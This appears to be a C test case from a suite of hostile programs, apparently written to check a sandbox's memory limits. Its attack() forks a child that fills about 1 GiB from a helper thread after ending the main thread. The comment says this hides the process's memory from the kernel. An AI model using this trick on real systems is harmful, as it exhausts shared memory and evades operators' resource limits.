// Uses all memory in a process whose first thread has ended: the kernel shows such a process as one without memory.
#include "hostile.h"
#include <sys/prctl.h>

static void *fill(void *nothing) {
    usleep(20000);
    for (int i = 0; i < 4 * 64; i++) {
        char *bytes = mmap(NULL, 16 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (bytes == MAP_FAILED) _exit(0);
        memset(bytes, i + 1, 16 << 20);
    }
    wait_for_the_limit();
    return nothing;
}

static void attack(void) {
    pthread_t thread;
    // The process itself may be one that others are waited for with.
    pid_t child = fork();
    if (child == 0) {
        if (pthread_create(&thread, NULL, fill, NULL) == 0) syscall(SYS_exit, 0);
        _exit(0);
    }
    if (child > 0) waitpid(child, NULL, 0);
}
